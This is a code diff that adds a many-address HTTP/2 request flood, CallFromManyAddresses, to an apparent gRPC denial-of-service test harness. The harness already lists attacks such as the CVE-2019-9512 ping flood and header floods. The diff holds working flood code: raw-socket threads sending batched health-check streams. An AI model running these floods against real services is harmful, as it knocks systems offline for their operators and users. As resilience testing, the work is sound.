@@ -151,6 +151,29 @@ void CallWhatIsRefused(const Target& target) {
   }
 }
 
+// Calls that the aggregator answers, from more addresses than can each have half of all calls.
+void CallFromManyAddresses(const Target& target) {
+  const std::string headers = CallHeaders("/grpc.health.v1.Health/Check");
+  std::vector<std::jthread> connections;
+  for (std::uint32_t i = 0; i < 60; ++i) {
+    connections.emplace_back([&target, &headers, host = 2 + i % 8] {
+      OnConnections(
+          target, [&] { return RawSocket(target.port, host); },
+          [&](RawSocket& socket) {
+            std::uint32_t stream = 1;
+            for (bool open = true; open && !target.over;) {
+              std::string bytes;
+              for (int call = 0; call < 100; ++call, stream += 2) {
+                bytes += Frame(kHeaders, kEndHeaders, stream, headers) +
+                         Frame(kData, kEndStream, stream, std::string(5, '\0'));
+              }
+              open = socket.Send(bytes);
+            }
+          });
+    });
+  }
+}
+
 // CVE-2019-9512: gRPC answers each ping by itself, and nobody reads the answers.
 void SendPings(const Target& target) {
   std::string bytes;
@@ -210,6 +233,7 @@ constexpr Attack kAttacks[] = {
     {"quadratic_headers_beside_an_upload", SendEndlessHeaderBesideAnUpload},
     {"calls_without_a_path", CallNoPathOnManyConnections},
     {"refused_calls", CallWhatIsRefused},
+    {"calls_from_many_addresses", CallFromManyAddresses},
     {"pings", SendPings},
     {"half_calls", OpenHalfCallsOnManyConnections},
     {"half_calls_of_a_node", OpenHalfCallsOfANode},
